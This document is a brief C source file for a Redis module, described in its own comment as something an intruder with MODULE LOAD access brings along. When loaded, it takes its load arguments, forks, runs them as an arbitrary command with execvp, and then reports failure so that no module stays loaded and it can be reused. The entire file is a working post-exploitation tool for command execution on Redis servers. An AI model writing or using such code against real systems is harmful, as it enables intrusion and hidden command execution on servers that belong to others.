/* A module that starts a program and goes again, as an intruder with MODULE LOAD brings one along:
   MODULE LOAD /usr/lib/redis/lab-run.so sh -c '...'. Built without headers or a C library of its own. */
extern int fork(void);
extern int execvp(const char *file, char *const argv[]);
extern void _exit(int code);
extern void *memcpy(void *to, const void *from, unsigned long length);

int RedisModule_OnLoad(void **context, void **strings, int count) {
    static char room[16][1024];
    char *argv[17];
    const char *(*text)(const void *string, unsigned long *length) = 0;
    int (*find)(const char *name, void *function) = (int (*)(const char *, void *))context[0];
    int i;
    if (find("RedisModule_StringPtrLen", &text) != 0)
        return 1;
    for (i = 0; i < count && i < 16; i++) {
        unsigned long length = 0;
        const char *from = text(strings[i], &length);
        if (length > 1023)
            length = 1023;
        memcpy(room[i], from, length);
        room[i][length] = 0;
        argv[i] = room[i];
    }
    argv[i] = 0;
    if (count > 0 && fork() == 0) {
        execvp(argv[0], argv);
        _exit(127);
    }
    /* "Not loaded", so that it can be loaded again. */
    return 1;
}
